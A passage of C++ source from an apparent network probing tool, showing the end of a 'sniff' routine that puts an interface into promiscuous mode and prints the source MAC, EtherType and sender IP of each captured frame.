    ll.sll_ifindex = static_cast<int>(ifindex);
    packet_mreq mr{};
    mr.mr_ifindex = static_cast<int>(ifindex);
    mr.mr_type = PACKET_MR_PROMISC;
    if (::bind(s, reinterpret_cast<sockaddr*>(&ll), sizeof ll) != 0 ||
        ::setsockopt(s, SOL_PACKET, PACKET_ADD_MEMBERSHIP, &mr, sizeof mr) != 0) {
        std::fprintf(stderr, "vs-probe: sniff: bind %s: %s\n", args[0].c_str(),
                     errname(errno).c_str());
        return 1;
    }
    std::printf("# listening on %s\n", args[0].c_str());
    std::fflush(stdout);
    uint8_t buf[2048];
    for (int n = 0; n < 100000; ++n) {
        ssize_t len = ::recv(s, buf, sizeof buf, 0);
        if (len < 0) {
            if (errno == EINTR) continue;
            break;
        }
        if (len < 14) continue;
        const uint16_t type = static_cast<uint16_t>(buf[12] << 8 | buf[13]);
        char ip[INET_ADDRSTRLEN] = "-";
        if (type == ETHERTYPE_IP && len >= 34) ::inet_ntop(AF_INET, buf + 26, ip, sizeof ip);
        if (type == ETHERTYPE_ARP && len >= 42) ::inet_ntop(AF_INET, buf + 28, ip, sizeof ip);
        std::printf("%02x:%02x:%02x:%02x:%02x:%02x %04x %s\n", buf[6], buf[7], buf[8], buf[9],
                    buf[10], buf[11], type, ip);
        std::fflush(stdout);
    }
    return 0;
}

}  // namespace vsprobe
